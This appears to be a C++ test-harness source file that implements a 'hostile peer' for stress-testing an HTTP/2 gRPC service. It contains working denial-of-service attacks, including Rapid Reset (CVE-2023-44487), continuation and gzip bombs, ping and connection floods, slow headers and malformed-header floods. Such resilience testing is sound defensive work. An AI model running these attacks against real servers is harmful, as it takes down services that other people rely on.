#include "tests/testing/hostile_peer.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <zlib.h>

#include <chrono>
#include <cstdlib>
#include <memory>
#include <thread>

#include "service/connections/descriptor.h"
#include "tests/testing/client_call.h"
#include "tests/testing/http2_frames.h"

namespace eta::testing {
namespace {

using namespace http2;  // NOLINT(google-build-using-namespace)
using Stop = std::atomic<bool>;

// A connection that has said its preface. Sends that would wait are dropped after 100 ms: whoever
// does not read any more has won.
class Peer {
 public:
  explicit Peer(const std::string& target, const std::string& settings = "") {
    const bool is_unix = target.rfind("unix:", 0) == 0;
    socket_.Reset(socket(is_unix ? AF_UNIX : AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    const timeval patience{.tv_sec = 0, .tv_usec = 100'000};
    setsockopt(socket_.get(), SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
    if (!(is_unix ? ConnectUnix(target.substr(5)) : ConnectTcp(target))) {
      socket_.Reset();
      return;
    }
    Send(std::string(kPreface) + Frame(kSettings, 0, 0, settings));
  }

  bool open() const { return socket_.valid(); }
  // False, and closed, once the other end has closed or reads no more.
  bool Send(const std::string& bytes) {
    for (size_t sent = 0; open() && sent < bytes.size();) {
      const ssize_t count =
          send(socket_.get(), bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (count <= 0) {
        socket_.Reset();
      } else {
        sent += static_cast<size_t>(count);
      }
      Drain();
    }
    return open();
  }
  // Drops what came.
  void Drain() {
    char bytes[16384];
    ssize_t count = 1;
    while (open() && count > 0) {
      count = recv(socket_.get(), bytes, sizeof(bytes), MSG_DONTWAIT);
      if (count == 0) socket_.Reset();
    }
  }

 private:
  bool ConnectTcp(const std::string& target) {
    const size_t colon = target.rfind(':');
    sockaddr_in to{}, from{};
    to.sin_family = from.sin_family = AF_INET;
    to.sin_port = htons(static_cast<uint16_t>(std::atoi(target.c_str() + colon + 1)));
    inet_pton(AF_INET, target.substr(0, colon).c_str(), &to.sin_addr);
    from.sin_addr.s_addr = htonl(0x7f000042);
    bind(socket_.get(), reinterpret_cast<const sockaddr*>(&from), sizeof(from));
    return connect(socket_.get(), reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0;
  }
  bool ConnectUnix(const std::string& path) {
    sockaddr_un to{};
    to.sun_family = AF_UNIX;
    path.copy(to.sun_path, sizeof(to.sun_path) - 1);
    return connect(socket_.get(), reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0;
  }

  Descriptor socket_;
};

void Pause(int milliseconds) {
  std::this_thread::sleep_for(std::chrono::milliseconds(milliseconds));
}

std::string Call(uint32_t stream, const std::string& more = "", uint8_t flags = kEndHeaders) {
  return Frame(kHeaders, flags, stream, CallHeaders(kGenerateMethod) + more);
}

// CVE-2023-44487: calls that are taken back at once never count as concurrent.
void RapidReset(const std::string& target, const Stop& stop) {
  while (!stop) {
    Peer peer(target);
    if (!peer.open()) Pause(1);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 1'000'000;) {
      std::string bytes;
      for (int i = 0; i < 200; ++i, stream += 2) {
        bytes += Call(stream) + Frame(kResetStream, 0, stream, BigEndian(8));
      }
      peer.Send(bytes);
    }
  }
}

// Limits count once they are acknowledged: this peer opens calls, and sends long headers, without.
void UnacknowledgedSettings(const std::string& target, const Stop& stop) {
  while (!stop) {
    Peer peer(target);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 6000;) {
      std::string bytes;
      for (int i = 0; i < 100; ++i, stream += 2) bytes += Call(stream);
      peer.Send(bytes);
    }
    std::string headers = CallHeaders(kGenerateMethod) + Literal("long", std::string(1 << 20, 'x'));
    std::string bytes = Frame(kHeaders, 0, 6001, headers.substr(0, 16384));
    for (size_t at = 16384; at < headers.size(); at += 16384) {
      const bool last = at + 16384 >= headers.size();
      bytes += Frame(kContinuation, last ? kEndHeaders : 0, 6001, headers.substr(at, 16384));
    }
    peer.Send(bytes);
    for (int i = 0; i < 20 && !stop && peer.open(); ++i) {
      Pause(5);
      peer.Drain();
    }
  }
}

// CVE-2023-33953: a header that is declared as 1 GiB and comes in pieces, which gRPC 1.51 joins
// anew with every piece. 7 MB a connection: a second of a core.
void ContinuationBomb(const std::string& target, const Stop& stop) {
  const std::string piece = Frame(kContinuation, 0, 1, std::string(16384, 'x'));
  while (!stop) {
    Peer peer(target);
    if (!peer.open()) Pause(1);
    std::string headers = CallHeaders(kGenerateMethod);
    headers.append(1, '\0').append(StringLength(4)).append("bomb").append(StringLength(1 << 30));
    peer.Send(Frame(kHeaders, 0, 1, headers));
    for (int i = 0; i < 448 && !stop && peer.open(); ++i) peer.Send(piece);
  }
}

// CVE-2023-32732: one bad value ends the connection, and with it the calls of others.
void BadMetadata(const std::string& target, const Stop& stop) {
  for (int i = 0; !stop; ++i) {
    Peer peer(target);
    if (!peer.open()) Pause(1);
    const std::string bad = i % 2 == 0 ? Literal("eta-bin", "*** no base64 ***")
                                       : Literal("long", std::string(12'000, 'x'));
    peer.Send(Call(1) + Call(3, bad) + Frame(kData, kEndStream, 1, Message("")));
    Pause(1);
    peer.Drain();
  }
}

// 300 MB of zeros as a few hundred kilobytes.
std::string Bomb() {
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string zeros(1 << 20, '\0'), bomb(1 << 19, '\0');
  stream.next_out = reinterpret_cast<Bytef*>(bomb.data());
  stream.avail_out = static_cast<uInt>(bomb.size());
  for (int i = 0; i < 300; ++i) {
    stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
    stream.avail_in = static_cast<uInt>(zeros.size());
    deflate(&stream, i == 299 ? Z_FINISH : Z_NO_FLUSH);
  }
  bomb.resize(stream.total_out);
  deflateEnd(&stream);
  return bomb;
}

void GzipBomb(const std::string& target, const Stop& stop) {
  static const std::string bomb = Message(Bomb(), true);
  while (!stop) {
    Peer peer(target);
    if (!peer.open()) Pause(1);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 20; stream += 2) {
      std::string bytes = Call(stream, Literal("grpc-encoding", "gzip"));
      for (size_t at = 0; at < bomb.size(); at += 16384) {
        bytes += Frame(kData, at + 16384 >= bomb.size() ? kEndStream : 0, stream,
                       bomb.substr(at, 16384));
      }
      peer.Send(bytes);
      Pause(5);
    }
  }
}

void PingFlood(const std::string& target, const Stop& stop) {
  std::string bytes;
  for (int i = 0; i < 500; ++i) {
    bytes += Frame(kPing, 0, 0, "12345678");
    if (i % 10 == 0) bytes += Frame(kSettings, 0, 0, "");
  }
  while (!stop) {
    Peer peer(target);
    if (!peer.open()) Pause(1);
    while (!stop && peer.Send(bytes)) {
    }
  }
}

// Many connections whose headers come a byte at a time.
void SlowHeaders(const std::string& target, const Stop& stop) {
  std::vector<std::unique_ptr<Peer>> peers;
  const std::string headers = Frame(kHeaders, kEndHeaders, 1, CallHeaders(kGenerateMethod));
  size_t at = 0;
  while (!stop) {
    if (peers.size() < 200) peers.push_back(std::make_unique<Peer>(target));
    for (auto& peer : peers) {
      if (peer->open() && at < headers.size() - 1) peer->Send(headers.substr(at, 1));
      if (!peer->open()) peer = std::make_unique<Peer>(target);
    }
    at = (at + 1) % headers.size();
    Pause(5);
  }
}

// Calls whose answers are never read, their windows shut, and connections that only stay.
void HalfOpen(const std::string& target, const Stop& stop) {
  const std::string no_window = {0, 4, 0, 0, 0, 0};
  v1::GenerateRequest request;
  request.set_text("Once upon a time");
  request.mutable_stopping()->set_max_tokens(200);
  const std::string message = Message(request.SerializeAsString());
  std::vector<std::unique_ptr<Peer>> peers;
  while (!stop) {
    if (peers.size() < 100) {
      peers.push_back(std::make_unique<Peer>(target, no_window));
      if (peers.size() % 25 == 0) {
        peers.back()->Send(Call(1) + Frame(kData, kEndStream, 1, message));
      }
    }
    for (auto& peer : peers) peer->Drain();
    Pause(5);
  }
}

// CVE-2019-9518 and its kin: frames that cost nothing to send.
void EmptyFrames(const std::string& target, const Stop& stop) {
  while (!stop) {
    Peer peer(target);
    if (!peer.open()) Pause(1);
    peer.Send(Call(1) + Frame(kHeaders, 0, 3, ""));
    std::string bytes;
    for (int i = 0; i < 1000; ++i) bytes += Frame(kContinuation, 0, 3, "");
    for (int i = 0; i < 100 && !stop && peer.Send(bytes); ++i) {
    }
    Peer other(target);
    bytes = Call(1);
    for (int i = 0; i < 1000; ++i) {
      bytes += Frame(kData, 0, 1, "") + Frame(kPriority, 0, 3, BigEndian(0) + "\x10");
    }
    for (int i = 0; i < 100 && !stop && other.Send(bytes); ++i) {
    }
  }
}

// CVE-2023-1428 and its kin: headers that no client sends, beside too much metadata.
void OddHeaders(const std::string& target, const Stop& stop) {
  const std::string filler = Literal("filler", std::string(9000, 'x'));
  const std::string odd[] = {Literal("te", "x") + filler,
                             Literal(":scheme", "gopher") + filler,
                             Literal("grpclb_client_stats", "x") + filler,
                             Literal("grpc-timeout", "99999999999H"),
                             Literal("grpc-timeout", "-1S"),
                             Literal(":status", "200"),
                             Literal("content-type", "text/plain"),
                             Literal("grpc-encoding", "no-such"),
                             Literal("content-length", "99999999999999999999"),
                             Literal("Upper-Case", "x"),
                             Literal("", "x"),
                             Literal("host", std::string("a\0b\r\nc", 6))};
  while (!stop) {
    for (const std::string& headers : odd) {
      Peer peer(target);
      if (!peer.open()) Pause(1);
      peer.Send(Call(1, headers) + Frame(kData, kEndStream, 1, Message("")));
      // An update beyond the window's bounds, a stream of an even number, a frame too long.
      peer.Send(Frame(kWindowUpdate, 0, 0, BigEndian(0x7fffffff)) + Call(2) +
                Frame(kData, 0, 1, std::string(20'000, 'x')));
      Pause(1);
      peer.Drain();
      if (stop) return;
    }
  }
}

void ConnectionFlood(const std::string& target, const Stop& stop) {
  while (!stop) {
    const Peer peer(target);
    if (!peer.open()) Pause(1);
  }
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const std::vector<Attack> attacks = {
      {"rapid_reset", RapidReset},
      {"unacknowledged_settings", UnacknowledgedSettings},
      {"continuation_bomb", ContinuationBomb},
      {"bad_metadata", BadMetadata},
      {"gzip_bomb", GzipBomb},
      {"ping_flood", PingFlood},
      {"slow_headers", SlowHeaders},
      {"half_open", HalfOpen},
      {"empty_frames", EmptyFrames},
      {"odd_headers", OddHeaders},
      {"connection_flood", ConnectionFlood},
  };
  return attacks;
}

}  // namespace eta::testing
